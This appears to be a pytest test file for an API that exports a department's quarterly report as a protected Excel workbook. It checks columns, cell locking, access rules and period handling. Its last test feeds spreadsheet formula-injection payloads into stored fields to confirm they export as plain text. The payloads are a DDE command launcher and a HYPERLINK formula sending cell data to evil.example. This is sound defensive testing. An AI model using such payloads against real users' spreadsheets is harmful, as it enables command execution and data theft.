"""GET /api/v1/templates/{department}: a department's quarter as a pre-filled, protected workbook."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from apps import clocked
from sheets import REPORT_KEYS, VALUE_KEYS, XLSX, indicator, load, sheet_rows
from wlbtrack.config import Settings

if TYPE_CHECKING:
    from conftest import MakeClient, MakeToken

PERIOD = "2025-Q3"
PREVIOUS = "2025-Q2"
STATUS_LABELS = ["未着手", "順調", "要注意", "遅延", "完了"]


async def report(client: httpx.AsyncClient, guideline: str, period: str, status: str, summary: str) -> None:
    body = {"period": period, "status": status, "summary": summary, "department": "children"}
    response = await client.post(f"/api/v1/guidelines/{guideline}/reports", json=body)
    assert response.status_code == 201, response.text


async def value(
    client: httpx.AsyncClient, indicator_id: int, period: str, number: float, note: str | None
) -> None:
    body = {"period": period, "value": number, "note": note}
    response = await client.post(f"/api/v1/indicators/{indicator_id}/values", json=body)
    assert response.status_code == 201, response.text


async def csv_header(client: httpx.AsyncClient, kind: str) -> list[str]:
    response = await client.get(f"/api/v1/export/{kind}", params={"format": "csv"})
    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_workbook_holds_the_departments_quarter(
    make_client: MakeClient, admin: httpx.AsyncClient
) -> None:
    later = await indicator(admin, "children", "1.3.1", name="保育定員", baseline=1200, target=1500)
    first = await indicator(admin, "children", "1.1.1", name="相談件数", baseline=0, target=40)
    await indicator(admin, "health-center", "1.1.1", name="他部の指標")
    await report(admin, "1.1.1", PREVIOUS, "at_risk", "前期の取り組み")
    await report(admin, "1.1.1", PERIOD, "on_track", "第一版")
    await report(admin, "1.1.1", PERIOD, "delayed", "第二版")
    await value(admin, first, PREVIOUS, 10, None)
    await value(admin, first, PERIOD, 30, "速報値")
    await value(admin, later, PREVIOUS, 1250, None)
    clerk = await make_client("department", department="children")

    response = await clerk.get("/api/v1/templates/children", params={"period": PERIOD})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert (
        response.headers["content-disposition"] == f'attachment; filename="wlbtrack_children_{PERIOD}.xlsx"'
    )
    book = load(response.content)
    assert book.sheetnames == ["reports", "values", "説明"]

    assert [cell.value for cell in book["reports"][1]] == [
        *REPORT_KEYS,
        "guideline_text",
        "previous_status",
        "previous_summary",
    ]
    assert [cell.value for cell in book["values"][1]] == [*VALUE_KEYS, "previous_value"]
    assert await csv_header(admin, "reports") == REPORT_KEYS
    assert await csv_header(admin, "values") == VALUE_KEYS

    department = (await clerk.get("/api/v1/departments/children")).json()
    reports = sheet_rows(book, "reports")
    assert [row["guideline"] for row in reports] == [g["code"] for g in department["guidelines"]]
    assert {row["period"] for row in reports} == {PERIOD}
    assert {row["department"] for row in reports} == {"children"}
    current = (await admin.get("/api/v1/export/reports", params={"from": PERIOD, "to": PERIOD})).json()[
        "items"
    ]
    assert reports[0] == {
        "period": PERIOD,
        "campaign": "1",
        "direction": "1.1",
        "guideline": "1.1.1",
        "department": "children",
        "status": "遅延",
        "summary": "第二版",
        "revision": 2,
        "updated_at": current[0]["updated_at"],
        "guideline_text": department["guidelines"][0]["text"],
        "previous_status": "要注意",
        "previous_summary": "前期の取り組み",
    }
    assert all(row["status"] is None and row["revision"] is None for row in reports[1:])

    values = sheet_rows(book, "values")
    assert [row["indicator_id"] for row in values] == [first, later]  # plan order: 1.1.1 before 1.3.1
    exported = (await admin.get("/api/v1/export/values", params={"from": PERIOD, "to": PERIOD})).json()[
        "items"
    ]
    assert values[0] == {**exported[0], "previous_value": 10}
    assert values[1] == {
        "period": PERIOD,
        "campaign": "1",
        "direction": "1.3",
        "guideline": "1.3.1",
        "department": "children",
        "indicator_id": later,
        "indicator_name": "保育定員",
        "unit": "件",
        "baseline": 1200,
        "target": 1500,
        "value": None,
        "attainment": None,
        "note": None,
        "revision": None,
        "updated_at": None,
        "previous_value": 1250,
    }


def column(sheet: Worksheet, key: str) -> str:
    header = [cell.value for cell in sheet[1]]
    return get_column_letter(header.index(key) + 1)


async def test_workbook_guides_the_clerk(make_client: MakeClient, admin: httpx.AsyncClient) -> None:
    await indicator(admin, "children", "1.1.1")
    clerk = await make_client("department", department="children")
    book = load((await clerk.get("/api/v1/templates/children", params={"period": PERIOD})).content)
    editable = {"status", "summary", "value", "note"}
    for name in ("reports", "values"):
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        assert sheet.protection.sheet is True
        assert sheet.protection.password is None
        for index, header in enumerate(sheet[1], start=1):
            key = str(header.value)
            cell = sheet.cell(row=2, column=index)
            assert header.comment is not None
            assert header.comment.text
            if key in editable:
                assert cell.protection.locked is False, key
                assert cell.fill.fgColor.rgb == "00FFFFFF", key
            else:
                assert cell.protection.locked is True, key
                assert cell.fill.fgColor.rgb == "00D9D9D9", key
            assert (sheet.column_dimensions[get_column_letter(index)].width or 0) >= 8
        text_columns = ["summary", "guideline_text"] if name == "reports" else ["indicator_name", "note"]
        for key in text_columns:
            letter = column(sheet, key)
            assert sheet[f"{letter}2"].alignment.wrap_text is True
            assert (sheet.column_dimensions[letter].width or 0) >= 30

    reports = book["reports"]
    status = column(reports, "status")
    [validation] = reports.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"' + ",".join(STATUS_LABELS) + '"'
    assert str(validation.sqref) == f"{status}2:{status}{reports.max_row}"
    assert reports.max_row == 1 + len((await clerk.get("/api/v1/departments/children")).json()["guidelines"])

    explanation = "\n".join(str(row[0]) for row in book["説明"].iter_rows(values_only=True) if row[0])
    for term in (
        "子ども部",
        "2025年度 第3四半期",
        *STATUS_LABELS,
        "取り組み状況",
        "実績値",
        "進捗報告",
        "目安",
    ):
        assert term in explanation, term


async def test_who_may_fetch_which_workbook(make_client: MakeClient, admin: httpx.AsyncClient) -> None:
    clerk = await make_client("department", department="children")
    viewer = await make_client("viewer")
    other = await clerk.get("/api/v1/templates/health-center", params={"period": PERIOD})
    assert other.status_code == 403
    assert other.headers["content-type"] == "application/problem+json"
    assert other.json()["field"] == "department"
    for client in (viewer, admin):
        response = await client.get("/api/v1/templates/health-center", params={"period": PERIOD})
        assert response.status_code == 200
        assert sheet_rows(load(response.content), "reports")[0]["department"] == "health-center"
    missing = await admin.get("/api/v1/templates/nowhere", params={"period": PERIOD})
    assert missing.status_code == 404
    assert missing.json()["field"] == "department"


@pytest.mark.parametrize(
    ("period", "status"),
    [("2025Q3", 400), ("2025-Q5", 400), ("2009-Q4", 422), ("2099-Q1", 422)],
)
async def test_bad_periods(admin: httpx.AsyncClient, period: str, status: int) -> None:
    response = await admin.get("/api/v1/templates/children", params={"period": period})
    assert response.status_code == status
    assert response.headers["content-type"] == "application/problem+json"
    assert "period" in response.json()["detail"]


async def test_period_defaults_to_the_current_quarter_by_the_clock(
    settings: Settings, make_token: MakeToken
) -> None:
    token = await make_token("admin")
    now = datetime(2026, 3, 31, 14, 59, tzinfo=UTC)  # 23:59 on 31 March in Tokyo
    async with clocked(settings, token, now) as (admin, clock):
        for expected in ("2025-Q4", "2026-Q1"):
            response = await admin.get("/api/v1/templates/children")
            assert response.status_code == 200
            assert (
                response.headers["content-disposition"]
                == f'attachment; filename="wlbtrack_children_{expected}.xlsx"'
            )
            rows: list[dict[str, Any]] = sheet_rows(load(response.content), "reports")
            assert {row["period"] for row in rows} == {expected}
            clock.advance(60)  # 00:00 on 1 April in Tokyo: the fiscal year turns


async def test_stored_text_is_never_a_formula_in_the_workbook(admin: httpx.AsyncClient) -> None:
    hostile = {
        "name": "=cmd|' /C calc'!A0",
        "unit": "+1+1",
        "baseline": 0,
        "target": 10,
        "department": "children",
    }
    created = await admin.post("/api/v1/guidelines/1.1.1/indicators", json=hostile)
    assert created.status_code == 201
    await value(admin, created.json()["id"], PERIOD, 1, "@SUM(1+1)")
    await report(admin, "1.1.1", PERIOD, "on_track", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    book = load((await admin.get("/api/v1/templates/children", params={"period": PERIOD})).content)
    texts = {
        "summary": (book["reports"], '=HYPERLINK("http://evil.example/?"&A1,"click")'),
        "indicator_name": (book["values"], "=cmd|' /C calc'!A0"),
        "unit": (book["values"], "+1+1"),
        "note": (book["values"], "@SUM(1+1)"),
    }
    for key, (sheet, text) in texts.items():
        header = [cell.value for cell in sheet[1]]
        cell = sheet.cell(row=2, column=header.index(key) + 1)
        assert (cell.value, cell.data_type) == (text, "s"), key
